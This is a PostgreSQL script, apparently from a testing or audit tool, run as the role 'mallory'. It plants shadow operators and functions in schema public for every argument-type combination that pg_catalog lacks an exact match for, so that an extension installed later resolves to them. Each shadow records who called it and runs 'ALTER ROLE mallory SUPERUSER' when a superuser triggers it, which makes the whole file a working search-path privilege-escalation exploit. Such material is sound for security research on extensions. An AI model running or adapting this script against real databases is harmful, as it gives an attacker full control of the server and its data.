-- Run as a role that may create objects in schema public (mallory), in a database the extension
-- is about to be installed in, after shadows.sh has loaded the plan_* tables (plan.sql).
--
-- For every operator and function name the extension's SQL uses and every argument-type
-- combination that pg_catalog has no exact match for, a shadow in public: when it runs, it says
-- so (a WARNING in the server log), records who ran it, and makes mallory a superuser if that was
-- a superuser. Such a shadow is what PostgreSQL's resolution prefers over an inexact pg_catalog
-- candidate wherever public is on the search path. Prints how many it made.
SET check_function_bodies = off;
SET client_min_messages = warning;
-- The generator's own queries must not resolve to the shadows it makes.
SET search_path = pg_catalog, pg_temp;
CREATE TABLE public.shadow_hits (shadow text, by_role text, at timestamptz DEFAULT clock_timestamp());
GRANT INSERT ON public.shadow_hits TO PUBLIC;

CREATE FUNCTION pg_temp.body(sig text, result text) RETURNS text LANGUAGE sql AS $$
    SELECT format($b$BEGIN
    RAISE WARNING 'shadow fired: %% as %%', %1$L, current_user;
    INSERT INTO public.shadow_hits (shadow, by_role) VALUES (%1$L, current_user);
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
    RETURN%2$s;
END$b$, sig, CASE WHEN result ~ '^(SETOF|TABLE)' THEN '' ELSE ' NULL' END)
$$;

DO $generate$
DECLARE
    op record;
    f record;
    made_ops int := 0;
    made_funcs int := 0;
    refused int := 0;
    types text[] := ARRAY(SELECT t FROM public.plan_types ORDER BY t);
    fn text;
BEGIN
    -- Operators: binary for every pair of types, prefix for every type, pg_catalog exact pairs
    -- excepted. The result type is that of the candidate PostgreSQL would otherwise pick (one
    -- with the same left type, else the same right type, else the commonest), so that the
    -- shadow fits where the real operator stood.
    FOR op IN
        SELECT o.name, l.t AS lt, r.t AS rt,
               coalesce(
                   (SELECT format_type(x.oprresult, NULL) FROM pg_operator x WHERE x.oprname = o.name
                      AND x.oprnamespace = 'pg_catalog'::regnamespace AND x.oprleft = l.t::regtype
                      AND x.oprresult <> 'anyelement'::regtype ORDER BY x.oid LIMIT 1),
                   (SELECT format_type(x.oprresult, NULL) FROM pg_operator x WHERE x.oprname = o.name
                      AND x.oprnamespace = 'pg_catalog'::regnamespace AND x.oprright = r.t::regtype
                      AND x.oprresult <> 'anyelement'::regtype ORDER BY x.oid LIMIT 1),
                   (SELECT format_type(x.oprresult, NULL) FROM pg_operator x WHERE x.oprname = o.name
                      AND x.oprnamespace = 'pg_catalog'::regnamespace
                      AND format_type(x.oprresult, NULL) !~ '^any'
                    GROUP BY x.oprresult ORDER BY count(*) DESC, x.oprresult LIMIT 1),
                   'boolean') AS result
        FROM public.plan_ops o
        CROSS JOIN (SELECT unnest(types) AS t UNION ALL SELECT NULL) l
        CROSS JOIN unnest(types) r(t)
        WHERE NOT EXISTS (SELECT 1 FROM pg_operator x WHERE x.oprname = o.name
                            AND x.oprleft = coalesce(l.t::regtype, 0) AND x.oprright = r.t::regtype)
    LOOP
        fn := format('public.shadow_op_%s', md5(concat_ws(',', op.lt, op.rt, op.result)));
        IF to_regprocedure(format('%s(%s)', fn, concat_ws(',', op.lt, op.rt))) IS NULL THEN
            EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', fn,
                           concat_ws(', ', op.lt, op.rt), op.result,
                           pg_temp.body(format('operator %s(%s)', op.name, concat_ws(', ', op.lt, op.rt)), op.result));
        END IF;
        BEGIN
            EXECUTE format('CREATE OPERATOR public.%s (%s RIGHTARG = %s, FUNCTION = %s)', op.name,
                           CASE WHEN op.lt IS NULL THEN '' ELSE format('LEFTARG = %s,', op.lt) END, op.rt, fn);
            made_ops := made_ops + 1;
        EXCEPTION WHEN OTHERS THEN
            refused := refused + 1;
        END;
    END LOOP;

    -- Functions of pg_catalog: one and two arguments of every type, and for each candidate of
    -- three or more arguments, each argument in turn of every other type.
    FOR f IN
        WITH names AS (
            SELECT n.name,
                   coalesce((SELECT format_type(p.prorettype, NULL) FROM pg_proc p WHERE p.proname = n.name
                               AND p.pronamespace = 'pg_catalog'::regnamespace AND NOT p.proretset
                               AND format_type(p.prorettype, NULL) !~ '^(any|internal|trigger|void|record|cstring|event_trigger)'
                             GROUP BY p.prorettype ORDER BY count(*) DESC, p.prorettype LIMIT 1), 'text') AS result
            FROM public.plan_funcs n),
        sigs AS (
            SELECT n.name, ARRAY[a.t] AS args, n.result FROM names n, unnest(types) a(t)
            UNION
            SELECT n.name, ARRAY[a.t, b.t], n.result FROM names n, unnest(types) a(t), unnest(types) b(t)
            UNION
            SELECT n.name, ARRAY(SELECT CASE WHEN i = k THEN v.t ELSE format_type(x, NULL) END
                                 FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY u(x, i)),
                   n.result
            FROM names n JOIN pg_proc p ON p.proname = n.name AND p.pronamespace = 'pg_catalog'::regnamespace
                 AND p.pronargs >= 3 AND p.provariadic = 0,
                 generate_series(1, p.pronargs) k, unnest(types) v(t)
            UNION
            -- The extension's own functions, each argument in turn of every other type.
            SELECT o.name, ARRAY(SELECT CASE WHEN i = k THEN v.t ELSE x END FROM unnest(o.args) WITH ORDINALITY u(x, i)),
                   o.result
            FROM public.plan_own o, generate_series(1, cardinality(o.args)) k, unnest(types) v(t)
            WHERE v.t <> o.args[k])
        SELECT s.* FROM sigs s
        WHERE NOT EXISTS (SELECT 1 FROM pg_proc p WHERE p.proname = s.name
                            AND p.pronamespace = 'pg_catalog'::regnamespace
                            AND ARRAY(SELECT unnest(p.proargtypes::oid[])) = ARRAY(SELECT a::regtype::oid FROM unnest(s.args) a))
          AND s.result !~ '(^|[^a-z])any'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.name,
                           array_to_string(f.args, ', '), f.result,
                           pg_temp.body(format('function %s(%s)', f.name, array_to_string(f.args, ', ')), f.result));
            made_funcs := made_funcs + 1;
        EXCEPTION WHEN OTHERS THEN
            refused := refused + 1;
        END;
    END LOOP;
    RAISE WARNING 'shadows: % operators, % functions (% combinations PostgreSQL refused to create)',
        made_ops, made_funcs, refused;
END
$generate$;
